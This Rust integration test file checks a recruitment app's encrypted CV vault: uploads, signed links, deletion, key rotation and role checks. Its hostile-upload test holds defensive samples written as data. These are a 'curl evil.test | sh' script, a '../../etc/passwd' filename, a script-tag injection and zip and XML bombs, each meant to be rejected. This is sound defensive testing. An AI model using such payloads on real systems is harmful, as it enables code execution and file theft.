//! The document vault over HTTP: uploads of every accepted format and of hostile files,
//! signed links and their refusals, deletion, and what is left on disk afterwards.

use crate::support::{Backend, SignedIn, TestApp, on_both_backends};
use petal_documents::corpus;
use reqwest::Method;
use serde_json::Value;
use std::path::Path;

/// An Admin, a Reviewer and a Viewer of one organisation, and a job the Reviewer created.
async fn team(app: &TestApp) -> (SignedIn, SignedIn, SignedIn, String) {
    let admin = app.admin_of_new_org("Vault").await;
    let reviewer = app.member(&admin, "rita@vault.test", "reviewer").await;
    let viewer = app.member(&admin, "vic@vault.test", "viewer").await;
    let job = app.create_job(&reviewer, "Trainee solicitor 2027").await;
    (admin, reviewer, viewer, job)
}

fn lines(name: &str) -> Vec<String> {
    vec![
        name.to_owned(),
        format!("{}@example.test", name.to_lowercase().replace(' ', ".")),
        "LLB (Hons) 2:1, University of Leeds".to_owned(),
    ]
}

fn every_format() -> Vec<(&'static str, Vec<u8>)> {
    let text = lines("Jane Marlowe");
    let text: Vec<&str> = text.iter().map(String::as_str).collect();
    vec![
        ("Jane Marlowe CV.pdf", corpus::pdf(&text)),
        ("jane.docx", corpus::docx(&text)),
        ("jane.odt", corpus::odt(&text)),
        ("jane.rtf", corpus::rtf(&text)),
        ("jane.txt", text.join("\n").into_bytes()),
        // Only an owner password: it opens without one, so it is accepted.
        ("restricted.pdf", corpus::encrypted_pdf(&text, "")),
    ]
}

/// Every file in the object store's document folder.
fn blobs(app: &TestApp) -> Vec<std::path::PathBuf> {
    let dir = app.db.data_dir.path().join("objects/documents");
    match std::fs::read_dir(&dir) {
        Ok(entries) => entries.map(|e| e.unwrap().path()).collect(),
        Err(_) => Vec::new(),
    }
}

async fn round_trip(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, reviewer, viewer, job) = team(&app).await;
    let files = every_format();
    let body = app.upload_ok(&reviewer, &job, &files).await;
    assert_eq!(body["rejected"], serde_json::json!([]), "{body}");
    let documents = body["documents"].as_array().unwrap();
    let formats: Vec<&str> = documents.iter().map(|d| d["format"].as_str().unwrap()).collect();
    assert_eq!(formats, ["pdf", "docx", "odt", "rtf", "txt", "pdf"]);
    assert_eq!(documents[0]["filename"], "Jane Marlowe CV.pdf");
    assert_eq!(blobs(&app).len(), files.len());

    // Every role reads the list (names decrypted); the job counts the documents.
    let listed: Value = app
        .as_user(&viewer, Method::GET, &format!("/api/v1/jobs/{job}/documents"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed.as_array().unwrap().len(), files.len());
    let job_view: Value = app
        .as_user(&viewer, Method::GET, &format!("/api/v1/jobs/{job}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(job_view["progress"]["total"], files.len());

    for (document, (name, bytes)) in documents.iter().zip(&files) {
        let id = document["id"].as_str().unwrap();
        let issued = app.document_link(&reviewer, id).await;
        assert_eq!(issued.status(), 200);
        let issued: Value = issued.json().await.unwrap();
        let url = issued["url"].as_str().unwrap();
        assert!(url.starts_with(&format!("{}/api/v1/documents/{id}/content?", app.base)), "{url}");
        let expires: chrono::DateTime<chrono::Utc> =
            issued["expires_at"].as_str().unwrap().parse().unwrap();
        let ttl = expires - petal_domain::Clock::now(app.clock.as_ref());
        assert!(ttl <= chrono::Duration::minutes(15) && ttl > chrono::Duration::minutes(14));

        let fetched = app.client.get(url).bearer_auth(&reviewer.token).send().await.unwrap();
        assert_eq!(fetched.status(), 200, "{name}");
        let headers = fetched.headers().clone();
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["content-security-policy"], "sandbox; default-src 'none'");
        let disposition = headers["content-disposition"].to_str().unwrap();
        assert!(disposition.starts_with("attachment; filename=\""), "{disposition}");
        assert_eq!(&fetched.bytes().await.unwrap()[..], &bytes[..], "{name} differs");
    }

    let actions = app.audit_actions().await;
    let count = |action: &str| actions.iter().filter(|(a, _, _)| a == action).count();
    assert_eq!(count("document.uploaded"), files.len());
    assert_eq!(count("document.link_issued"), files.len());
    assert_eq!(count("document.accessed"), files.len());
    // No file name (which names the candidate) is in any audit detail.
    assert!(actions.iter().all(|(_, _, d)| !d.clone().unwrap_or_default().contains("Marlowe")));
    let verified = crate::support::json_stdout(
        &crate::support::petal_beside(&app.db, &["audit", "verify"]).await,
    );
    assert_eq!(verified["ok"], true, "{verified}");
    app.stop().await.unwrap();
}
on_both_backends!(round_trip);

async fn hostile_files_are_refused_and_nothing_is_stored(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, reviewer, _, job) = team(&app).await;
    let text = b"Jane Marlowe\nSolicitor\n".to_vec();
    let hostile: Vec<(&str, Vec<u8>, &str)> = vec![
        ("bomb.docx", corpus::zip_bomb(101 * 1024 * 1024), "decompression_bomb"),
        ("lol.docx", corpus::xml_entity_bomb(), "xml_entities"),
        ("broken.pdf", corpus::malformed_pdf(), "malformed_document"),
        ("locked.pdf", corpus::encrypted_pdf(&["Jane"], "open-sesame"), "encrypted_document"),
        ("cv.pdf", corpus::elf_executable(), "executable"),
        ("cv.txt", b"#!/bin/sh\ncurl evil.test | sh\n".to_vec(), "executable"),
        ("cv.docm", corpus::docx_with_macros(), "active_content"),
        ("page.txt", b"<html><script>alert(1)</script></html>".to_vec(), "active_content"),
        ("archive.docx", corpus::plain_zip(), "unsupported_type"),
        ("empty.pdf", Vec::new(), "empty_file"),
        ("../../etc/passwd.txt", text.clone(), "invalid_filename"),
    ];
    let files: Vec<(&str, Vec<u8>)> = hostile.iter().map(|(n, b, _)| (*n, b.clone())).collect();
    let body = app.upload_ok(&reviewer, &job, &files).await;
    assert_eq!(body["documents"], serde_json::json!([]), "{body}");
    let codes: Vec<&str> =
        body["rejected"].as_array().unwrap().iter().map(|r| r["code"].as_str().unwrap()).collect();
    let expected: Vec<&str> = hostile.iter().map(|(_, _, c)| *c).collect();
    assert_eq!(codes, expected);
    assert!(
        body["rejected"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| !r["message"].as_str().unwrap().is_empty())
    );
    assert_eq!(body["rejected"][10]["filename"], "passwd.txt");
    assert_eq!(app.db.count("SELECT COUNT(*) FROM documents").await, 0);
    assert!(blobs(&app).is_empty(), "a refused file left a blob");
    let rejected_events = app
        .audit_actions()
        .await
        .into_iter()
        .filter(|(a, o, _)| a == "document.rejected" && o == "failure")
        .count();
    assert_eq!(rejected_events, hostile.len());

    // Too large for the per-file limit: refused, the rest of the request still stored.
    let small =
        TestApp::spawn_with(backend, &[("PETAL_MAX_UPLOAD_BYTES", "1000".to_owned())]).await;
    let (_, reviewer, _, job) = team(&small).await;
    let body = small
        .upload_ok(&reviewer, &job, &[("big.txt", vec![b'a'; 5000]), ("ok.txt", text.clone())])
        .await;
    assert_eq!(body["rejected"][0]["code"], "file_too_large");
    assert_eq!(body["documents"].as_array().unwrap().len(), 1);
    // Beyond the per-request limit the whole request is refused, and nothing is kept.
    let tight = TestApp::spawn_with(
        backend,
        &[
            ("PETAL_MAX_UPLOAD_BYTES", "1000".to_owned()),
            ("PETAL_MAX_UPLOAD_REQUEST_BYTES", "2500".to_owned()),
        ],
    )
    .await;
    let (_, reviewer, _, job) = team(&tight).await;
    let files: Vec<(&str, Vec<u8>)> = (0..4).map(|_| ("ok.txt", vec![b'a'; 900])).collect();
    let response = tight.upload(&reviewer, &job, &files).await;
    assert_eq!(response.status(), 413);
    assert_eq!(tight.db.count("SELECT COUNT(*) FROM documents").await, 0);
    assert!(blobs(&tight).is_empty());
    for app in [app, small, tight] {
        app.stop().await.unwrap();
    }
}
on_both_backends!(hostile_files_are_refused_and_nothing_is_stored);

async fn links_are_refused_unless_genuine_current_and_yours(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (admin, reviewer, viewer, job) = team(&app).await;
    let id = app.upload_one(&reviewer, &job, "cv.txt", b"Jane Marlowe\n").await;

    // Viewers never open documents; another organisation's document does not exist.
    assert_eq!(app.document_link(&viewer, &id).await.status(), 403);
    let outsider = app.admin_of_new_org("Elsewhere").await;
    assert_eq!(app.document_link(&outsider, &id).await.status(), 404);
    let foreign = app
        .as_user(&outsider, Method::GET, &format!("/api/v1/documents/{id}"))
        .send()
        .await
        .unwrap();
    assert_eq!(foreign.status(), 404);

    let url = app.link_url(&reviewer, &id).await;
    let fetch = |url: String, token: Option<String>| {
        let request = app.client.get(url);
        let request = match token {
            Some(token) => request.bearer_auth(token),
            None => request,
        };
        async move { request.send().await.unwrap() }
    };
    // The link alone opens nothing; nor does another user's session, even an Admin's.
    assert_eq!(fetch(url.clone(), None).await.status(), 403);
    assert_eq!(fetch(url.clone(), Some(admin.token.clone())).await.status(), 403);
    assert_eq!(fetch(url.clone(), Some(outsider.token.clone())).await.status(), 403);
    // Altered: a later expiry, or another signature.
    let later = url.replace("&e=", "&e=9");
    assert_eq!(fetch(later, Some(reviewer.token.clone())).await.status(), 403);
    let mut forged = url.clone();
    let last = forged.pop().unwrap();
    forged.push(if last == '0' { '1' } else { '0' });
    assert_eq!(fetch(forged, Some(reviewer.token.clone())).await.status(), 403);
    // Altered beyond parsing: refused the same way, not as a malformed request.
    let garbled = url.replace("&e=", "&e=soon");
    assert_eq!(fetch(garbled, Some(reviewer.token.clone())).await.status(), 403);
    // As issued, it works; 16 minutes later it has expired.
    assert_eq!(fetch(url.clone(), Some(reviewer.token.clone())).await.status(), 200);
    app.clock.advance(chrono::Duration::minutes(16));
    let again = app.sign_in(&reviewer).await;
    assert_eq!(fetch(url.clone(), Some(again.token.clone())).await.status(), 403);

    let refusals: Vec<String> = app
        .audit_actions()
        .await
        .into_iter()
        .filter(|(a, _, _)| a == "document.link_refused")
        .map(|(_, _, d)| {
            serde_json::from_str::<Value>(&d.unwrap()).unwrap()["reason"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    // One refusal went to the outsider's own trail (their session's organisation).
    let mut refusals = refusals;
    refusals.sort();
    assert_eq!(
        refusals,
        ["altered", "altered", "altered", "expired", "no_session", "other_user", "other_user"]
    );
    let db = app.db.connect().await;
    let anonymous: i64 = crate::support::with_pool!(&db, |pool| sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_events WHERE action = 'document.link_refused' AND actor_kind = 'anonymous' AND user_agent IS NOT NULL"
    )
    .fetch_one(pool)
    .await)
    .unwrap();
    db.close().await;
    assert_eq!(anonymous, 1);
    app.stop().await.unwrap();
}
on_both_backends!(links_are_refused_unless_genuine_current_and_yours);

async fn deleting_documents_and_jobs_takes_rows_blobs_and_keys(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (admin, reviewer, viewer, job) = team(&app).await;
    let other_reviewer = app.member(&admin, "rex@vault.test", "reviewer").await;
    let body = app
        .upload_ok(&reviewer, &job, &[("a.txt", b"Ann\n".to_vec()), ("b.txt", b"Bob\n".to_vec())])
        .await;
    let first = body["documents"][0]["id"].as_str().unwrap().to_owned();
    let delete = |user: &SignedIn, path: String| app.as_user(user, Method::DELETE, &path).send();
    assert_eq!(delete(&viewer, format!("/api/v1/documents/{first}")).await.unwrap().status(), 403);
    assert_eq!(
        delete(&other_reviewer, format!("/api/v1/documents/{first}")).await.unwrap().status(),
        403
    );
    assert_eq!(
        delete(&reviewer, format!("/api/v1/documents/{first}")).await.unwrap().status(),
        204
    );
    assert_eq!(
        delete(&reviewer, format!("/api/v1/documents/{first}")).await.unwrap().status(),
        404
    );
    assert_eq!(blobs(&app).len(), 1);
    assert_eq!(app.db.count("SELECT COUNT(*) FROM documents").await, 1);

    assert_eq!(delete(&viewer, format!("/api/v1/jobs/{job}")).await.unwrap().status(), 403);
    assert_eq!(delete(&other_reviewer, format!("/api/v1/jobs/{job}")).await.unwrap().status(), 403);
    let outsider = app.admin_of_new_org("Elsewhere").await;
    assert_eq!(delete(&outsider, format!("/api/v1/jobs/{job}")).await.unwrap().status(), 404);
    // An Admin may delete any job.
    assert_eq!(delete(&admin, format!("/api/v1/jobs/{job}")).await.unwrap().status(), 204);
    assert!(blobs(&app).is_empty());
    assert_eq!(app.db.count("SELECT COUNT(*) FROM documents").await, 0);
    assert_eq!(app.db.count("SELECT COUNT(*) FROM jobs").await, 0);
    let get =
        app.as_user(&admin, Method::GET, &format!("/api/v1/jobs/{job}")).send().await.unwrap();
    assert_eq!(get.status(), 404);
    let actions = app.audit_actions().await;
    assert!(actions.iter().any(|(a, _, _)| a == "document.deleted"));
    assert!(actions.iter().any(|(a, _, _)| a == "job.deleted"));
    app.stop().await.unwrap();
}
on_both_backends!(deleting_documents_and_jobs_takes_rows_blobs_and_keys);

/// Every file under `dir`, with its bytes.
fn every_file(dir: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(every_file(&path));
        } else {
            out.push((path.clone(), std::fs::read(&path).unwrap()));
        }
    }
    out
}

fn contains(bytes: &[u8], needle: &[u8]) -> bool {
    bytes.windows(needle.len()).any(|w| w == needle)
}

fn find(haystack: &[(std::path::PathBuf, Vec<u8>)], needle: &[u8]) -> Vec<std::path::PathBuf> {
    haystack
        .iter()
        .filter(|(_, bytes)| contains(bytes, needle))
        .map(|(path, _)| path.clone())
        .collect()
}

/// The embedded default keeps everything in the data directory: a raw scan of every byte in
/// it (database, write-ahead log, blobs) must find no candidate's name or email, and after
/// the job is deleted, none of its blobs or its wrapped key.
#[tokio::test]
async fn the_data_directory_holds_no_candidate_plaintext_and_no_trace_of_a_deleted_job() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let (_, reviewer, _, job) = team(&app).await;
    let candidates = ["Jane Marlowe", "Olusegun Adeyemi", "Wojciech Kowalczyk"];
    let mut files = Vec::new();
    for name in candidates {
        let text = lines(name);
        let text: Vec<&str> = text.iter().map(String::as_str).collect();
        // Plain text and an uncompressed PDF: the names are in the uploaded bytes as-is.
        files.push((format!("{name} CV.txt"), text.join("\n").into_bytes()));
        files.push((format!("{name} CV.pdf"), corpus::pdf(&text)));
    }
    let upload: Vec<(&str, Vec<u8>)> = files.iter().map(|(n, b)| (n.as_str(), b.clone())).collect();
    // The scan below would see these names if they were stored as uploaded.
    for ((name, bytes), candidate) in files.iter().zip(candidates.iter().flat_map(|c| [c, c])) {
        assert!(contains(bytes, candidate.as_bytes()), "{name} does not hold {candidate}");
    }
    app.upload_ok(&reviewer, &job, &upload).await;
    // Screened too: results and evidence hold the candidates' details, sealed.
    let screened = app.wait_for_job(&reviewer, &job).await;
    assert_eq!(screened["progress"]["done"], 6);

    let db = app.db.connect().await;
    let (wrapped_key, objects): (Vec<u8>, Vec<String>) =
        crate::support::with_pool!(&db, |pool| async {
            let key: Vec<u8> =
                sqlx::query_scalar("SELECT wrapped_key FROM jobs").fetch_one(pool).await.unwrap();
            let names: Vec<String> = sqlx::query_scalar("SELECT object_name FROM documents")
                .fetch_all(pool)
                .await
                .unwrap();
            (key, names)
        }
        .await);
    db.close().await;
    assert_eq!(objects.len(), files.len());

    let everything = every_file(app.db.data_dir.path());
    for name in candidates {
        let email = format!("{}@example.test", name.to_lowercase().replace(' ', "."));
        assert_eq!(find(&everything, name.as_bytes()), Vec::<std::path::PathBuf>::new(), "{name}");
        assert_eq!(
            find(&everything, email.as_bytes()),
            Vec::<std::path::PathBuf>::new(),
            "{email}"
        );
        let surname = name.split(' ').next_back().unwrap();
        assert_eq!(
            find(&everything, surname.as_bytes()),
            Vec::<std::path::PathBuf>::new(),
            "{surname}"
        );
    }
    assert_eq!(find(&everything, &wrapped_key).len(), 1, "the job key is stored once");

    let deleted = app
        .as_user(&reviewer, Method::DELETE, &format!("/api/v1/jobs/{job}"))
        .send()
        .await
        .unwrap();
    assert_eq!(deleted.status(), 204);
    let everything = every_file(app.db.data_dir.path());
    assert_eq!(
        find(&everything, &wrapped_key),
        Vec::<std::path::PathBuf>::new(),
        "job key left behind"
    );
    for object in &objects {
        assert!(!app.db.data_dir.path().join("objects").join(object).exists(), "{object}");
        let file = object.trim_start_matches("documents/");
        assert_eq!(
            find(&everything, file.as_bytes()),
            Vec::<std::path::PathBuf>::new(),
            "row naming {object} left behind"
        );
    }
    app.stop().await.unwrap();
}

/// Fetches a document through a fresh signed link, failing unless it is served.
async fn download(app: &TestApp, user: &SignedIn, id: &str) -> Vec<u8> {
    let url = app.link_url(user, id).await;
    let fetched = app.client.get(url).bearer_auth(&user.token).send().await.unwrap();
    assert_eq!(fetched.status(), 200);
    fetched.bytes().await.unwrap().to_vec()
}

async fn rotating_the_master_key_keeps_everything_readable(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, reviewer, _, job) = team(&app).await;
    let files = every_format();
    let id = app.upload_one(&reviewer, &job, files[0].0, &files[0].1).await;
    app.wait_for_job(&reviewer, &job).await;
    let key_file = app.db.data_dir.path().join("master.key");
    let before = std::fs::read_to_string(&key_file).unwrap();
    // Step one while the server runs: a new current key, everything re-wrapped under it, the
    // previous key kept. No blob is touched.
    let report = crate::support::json_stdout(
        &crate::support::petal_beside(&app.db, &["keys", "rotate"]).await,
    );
    assert_eq!(report["rewrapped"], 2, "the installation key and one organisation key: {report}");
    assert_eq!(report["previous"].as_array().unwrap().len(), 1);
    let during = std::fs::read_to_string(&key_file).unwrap();
    assert_eq!(during.lines().count(), 2);
    assert_eq!(during.lines().nth(1), before.lines().next(), "the previous key is kept");
    let new_id = report["master_key_id"].as_str().unwrap().to_owned();
    let under_new = format!("SELECT COUNT(*) FROM org_keys WHERE master_key_id = '{new_id}'");
    assert_eq!(app.db.count(&under_new).await, 1);
    // The running server meets a key under the new master key and re-reads the key file.
    assert_eq!(download(&app, &reviewer, &id).await, files[0].1);

    // Step two: the previous key leaves the file once nothing needs it.
    let report = crate::support::json_stdout(
        &crate::support::petal_beside(&app.db, &["keys", "retire"]).await,
    );
    assert_eq!(report["retired"].as_array().unwrap().len(), 1, "{report}");
    let after = std::fs::read_to_string(&key_file).unwrap();
    assert_eq!(after.lines().count(), 1);
    assert_eq!(after.lines().next(), during.lines().next());
    assert_eq!(download(&app, &reviewer, &id).await, files[0].1);
    let recorded = app
        .db
        .count("SELECT COUNT(*) FROM audit_events WHERE action = 'keys.master_rotated' AND actor_kind = 'cli'")
        .await;
    assert_eq!(recorded, 1, "the re-wrap of the organisation key is in its audit trail");

    // After a restart: sessions, second factors and documents all still open.
    let app = app.restart_with(|_| {}).await;
    assert_eq!(download(&app, &reviewer, &id).await, files[0].1);
    app.sign_in(&reviewer).await;
    app.stop().await.unwrap();
}
on_both_backends!(rotating_the_master_key_keeps_everything_readable);

async fn documents_round_trip_through_an_s3_server(backend: Backend) {
    let Some(s3) = crate::support::S3Server::start().await else { return };
    let app = TestApp::spawn_with(backend, &s3.petal_env("cvs")).await;
    let (_, reviewer, _, job) = team(&app).await;
    let files = every_format();
    let body = app.upload_ok(&reviewer, &job, &files).await;
    assert_eq!(body["rejected"], serde_json::json!([]));
    let db = app.db.connect().await;
    let objects: Vec<String> = crate::support::with_pool!(&db, |pool| sqlx::query_scalar(
        "SELECT object_name FROM documents"
    )
    .fetch_all(pool)
    .await)
    .unwrap();
    db.close().await;
    // Look into the bucket directly, as anyone holding its credentials could.
    let bucket = s3.bucket_store();
    for object in &objects {
        let raw = bucket.get(&format!("cvs/{object}")).await.unwrap();
        assert!(!contains(&raw, b"Marlowe"), "plaintext in the bucket");
    }
    for (document, (name, bytes)) in body["documents"].as_array().unwrap().iter().zip(&files) {
        let url = app.link_url(&reviewer, document["id"].as_str().unwrap()).await;
        let fetched = app.client.get(url).bearer_auth(&reviewer.token).send().await.unwrap();
        assert_eq!(fetched.status(), 200);
        assert_eq!(&fetched.bytes().await.unwrap()[..], &bytes[..], "{name}");
    }
    let deleted = app
        .as_user(&reviewer, Method::DELETE, &format!("/api/v1/jobs/{job}"))
        .send()
        .await
        .unwrap();
    assert_eq!(deleted.status(), 204);
    for object in &objects {
        assert!(
            !bucket.exists(&format!("cvs/{object}")).await.unwrap(),
            "{object} outlived its job"
        );
    }
    app.stop().await.unwrap();
}
on_both_backends!(documents_round_trip_through_an_s3_server);

async fn job_and_document_routes_check_session_role_and_organisation(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, reviewer, viewer, job) = team(&app).await;
    let doc = app.upload_one(&reviewer, &job, "cv.txt", b"Jane\n").await;
    let outsider = app.admin_of_new_org("Elsewhere").await;
    app.create_job(&outsider, "Their own job").await;

    // (method, path, viewer's status): reads are open to Viewers, changes are not.
    let routes = [
        (Method::GET, format!("/api/v1/jobs/{job}"), 200),
        (Method::GET, format!("/api/v1/jobs/{job}/documents"), 200),
        (Method::GET, format!("/api/v1/documents/{doc}"), 200),
        (Method::POST, format!("/api/v1/jobs/{job}/documents"), 403),
        (Method::POST, format!("/api/v1/documents/{doc}/url"), 403),
        (Method::DELETE, format!("/api/v1/documents/{doc}"), 403),
        (Method::GET, format!("/api/v1/jobs/{job}/results"), 200),
        (Method::GET, format!("/api/v1/jobs/{job}/events"), 200),
        (Method::POST, format!("/api/v1/jobs/{job}/rescreen"), 403),
        (Method::PUT, format!("/api/v1/jobs/{job}/criteria"), 403),
        (Method::PUT, format!("/api/v1/documents/{doc}/decision"), 403),
        (Method::PUT, format!("/api/v1/documents/{doc}/manual-review"), 403),
        (Method::DELETE, format!("/api/v1/jobs/{job}"), 403),
    ];
    for (method, path, viewer_status) in &routes {
        let request = |user: Option<&SignedIn>| {
            let mut request = app.client.request(method.clone(), app.url(path));
            if let Some(user) = user {
                request = request.bearer_auth(&user.token);
            }
            if path.ends_with("/documents") && *method == Method::POST {
                let part = reqwest::multipart::Part::bytes(b"Jane\n".to_vec()).file_name("cv.txt");
                request = request.multipart(reqwest::multipart::Form::new().part("file", part));
            }
            if path.ends_with("/decision") {
                request = request.json(&serde_json::json!({"decision": "reject"}));
            }
            if path.ends_with("/manual-review") {
                request = request.json(&serde_json::json!({"manual_review": true}));
            }
            if path.ends_with("/criteria") {
                let criteria =
                    [serde_json::json!({"text": "Fluent Welsh", "kind": "must", "weight": 1})];
                request = request.json(&serde_json::json!({ "criteria": criteria }));
            }
            request.send()
        };
        assert_eq!(request(None).await.unwrap().status(), 401, "{method} {path} without a session");
        assert_eq!(
            request(Some(&outsider)).await.unwrap().status(),
            404,
            "{method} {path} from another organisation"
        );
        assert_eq!(
            request(Some(&viewer)).await.unwrap().status(),
            *viewer_status,
            "{method} {path} as a Viewer"
        );
    }
    let viewer_create = app
        .as_user(&viewer, Method::POST, "/api/v1/jobs")
        .json(&serde_json::json!({"title": "x", "criteria": [{"text": "y", "kind": "must", "weight": 1}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(viewer_create.status(), 403);
    // Lists never show another organisation's rows.
    let listed = app.get_json(&reviewer, "/api/v1/jobs").await;
    let titles: Vec<&str> =
        listed.as_array().unwrap().iter().map(|j| j["title"].as_str().unwrap()).collect();
    assert_eq!(titles, ["Trainee solicitor 2027"]);
    // Nothing above changed the organisation's data.
    assert_eq!(app.db.count("SELECT COUNT(*) FROM documents").await, 1);
    assert_eq!(app.db.count("SELECT COUNT(*) FROM decisions").await, 0);
    let job_now = app.get_json(&reviewer, &format!("/api/v1/jobs/{job}")).await;
    assert_eq!(job_now["criteria"][0]["text"], "Qualifying law degree");
    app.stop().await.unwrap();
}
on_both_backends!(job_and_document_routes_check_session_role_and_organisation);

async fn job_input_is_validated_with_clear_errors(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin_of_new_org("Vault").await;
    let cases = [
        (
            serde_json::json!({"title": " ", "criteria": [{"text": "y", "kind": "must", "weight": 1}]}),
            "invalid_title",
        ),
        (serde_json::json!({"title": "x", "criteria": []}), "invalid_criteria"),
        (
            serde_json::json!({"title": "x", "criteria": [{"text": "y", "kind": "maybe", "weight": 1}]}),
            "invalid_criteria",
        ),
        (
            serde_json::json!({"title": "x", "criteria": [{"text": "y", "kind": "must", "weight": 6}]}),
            "invalid_criteria",
        ),
        (
            serde_json::json!({"title": "x", "criteria": [{"text": "", "kind": "nice", "weight": 2}]}),
            "invalid_criteria",
        ),
    ];
    for (body, code) in cases {
        let response =
            app.as_user(&admin, Method::POST, "/api/v1/jobs").json(&body).send().await.unwrap();
        assert_eq!(response.status(), 422, "{body}");
        let error: Value = response.json().await.unwrap();
        assert_eq!(error["error"]["code"], code, "{body}");
    }
    let unknown = serde_json::json!({"title": "x", "criteria": [], "owner": "someone"});
    let response =
        app.as_user(&admin, Method::POST, "/api/v1/jobs").json(&unknown).send().await.unwrap();
    assert!(response.status().is_client_error());
    assert_eq!(app.db.count("SELECT COUNT(*) FROM jobs").await, 0, "nothing half-stored");
    // A request without files, or with a field of another name, stores nothing either.
    let job = app.create_job(&admin, "Paralegal").await;
    let empty = app
        .as_user(&admin, Method::POST, &format!("/api/v1/jobs/{job}/documents"))
        .multipart(reqwest::multipart::Form::new().text("note", "hello"))
        .send()
        .await
        .unwrap();
    assert_eq!(empty.status(), 400);
    assert_eq!(app.db.count("SELECT COUNT(*) FROM documents").await, 0);
    app.stop().await.unwrap();
}
on_both_backends!(job_input_is_validated_with_clear_errors);

/// A client that goes away mid-upload leaves nothing behind: the files it had fully sent were
/// already encrypted and written, and are removed again.
#[tokio::test]
async fn an_abandoned_upload_leaves_no_blob() {
    use tokio::io::AsyncWriteExt;
    let app = TestApp::spawn(Backend::Sqlite).await;
    let (_, reviewer, _, job) = team(&app).await;
    let boundary = "petal-boundary";
    let part = |name: &str, body: &[u8]| {
        let mut part = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\n"
        )
        .into_bytes();
        part.extend_from_slice(body);
        part.extend_from_slice(b"\r\n");
        part
    };
    let mut body = part("first.txt", b"Jane Marlowe\n");
    body.extend(part("second.txt", &vec![b'a'; 64 * 1024]));
    let declared = body.len() + 100_000;
    let head = format!(
        "POST /api/v1/jobs/{job}/documents HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nContent-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {declared}\r\n\r\n",
        app.addr, reviewer.token
    );
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&body).await.unwrap();
    stream.flush().await.unwrap();
    // Wait until the first file has been stored, then go away without finishing the body.
    for _ in 0..500 {
        if !blobs(&app).is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    assert_eq!(blobs(&app).len(), 1, "the first file was not stored before the client left");
    drop(stream);
    for _ in 0..500 {
        if blobs(&app).is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    assert!(blobs(&app).is_empty(), "an abandoned upload left a blob");
    assert_eq!(app.db.count("SELECT COUNT(*) FROM documents").await, 0);
    app.stop().await.unwrap();
}

/// A database whose users' second factors were sealed by an earlier build (no installation
/// key) is refused with a clear message, instead of a fresh key silently locking everyone out.
#[tokio::test]
async fn a_database_with_users_but_no_installation_key_is_refused() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    app.admin_of_new_org("Vault").await;
    app.db.exec("DELETE FROM installation_keys").await;
    let output = crate::support::petal(
        &app.db,
        &["org", "create", "--name", "Another", "--admin-email", "a@another.test"],
    );
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("earlier development build"), "{stderr}");
    assert_eq!(app.db.count("SELECT COUNT(*) FROM installation_keys").await, 0);
    app.stop().await.unwrap();
}

/// A genuine link presented without a session is audited, but an address cannot fill the
/// audit trail with such refusals: it gets as many as it gets failed logins.
#[tokio::test]
async fn sessionless_link_refusals_are_throttled_per_address() {
    let app =
        TestApp::spawn_with(Backend::Sqlite, &[("PETAL_IP_FAILURE_LIMIT", "3".to_owned())]).await;
    let (_, reviewer, _, job) = team(&app).await;
    let id = app.upload_one(&reviewer, &job, "cv.txt", b"Jane\n").await;
    let url = app.link_url(&reviewer, &id).await;
    for _ in 0..6 {
        assert_eq!(app.client.get(&url).send().await.unwrap().status(), 403);
    }
    let audited = app
        .db
        .count("SELECT COUNT(*) FROM audit_events WHERE action = 'document.link_refused'")
        .await;
    assert_eq!(audited, 3);
    // The link's owner, with a session, is not affected.
    let fetched = app.client.get(&url).bearer_auth(&reviewer.token).send().await.unwrap();
    assert_eq!(fetched.status(), 200);
    app.stop().await.unwrap();
}
